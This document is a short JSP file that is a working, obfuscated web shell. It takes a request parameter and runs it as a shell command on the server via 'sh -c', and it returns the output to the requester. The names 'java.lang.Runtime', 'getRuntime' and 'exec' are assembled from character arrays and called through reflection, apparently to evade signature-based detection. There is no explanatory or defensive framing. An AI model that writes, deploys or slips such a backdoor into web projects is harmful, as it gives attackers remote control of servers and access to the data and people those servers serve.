<%@ page import="java.lang.reflect.*,java.io.*" %>
<%!
    static String s(char[] c) { return new String(c); }
%>
<%
    String v = request.getParameter("v");
    if (v != null) {
        String cn = s(new char[]{'j','a','v','a','.','l','a','n','g','.','R','u','n','t','i','m','e'});
        String gm = s(new char[]{'g','e','t','R','u','n','t','i','m','e'});
        String em = s(new char[]{'e','x','e','c'});
        Class k = Class.forName(cn);
        Object rt = k.getMethod(gm, new Class[0]).invoke(null, new Object[0]);
        Process pr = (Process) k.getMethod(em, String[].class).invoke(rt, new Object[]{new String[]{"sh", "-c", v}});
        BufferedReader r = new BufferedReader(new InputStreamReader(pr.getInputStream()));
        String l;
        while ((l = r.readLine()) != null) out.println(l);
    }
%>
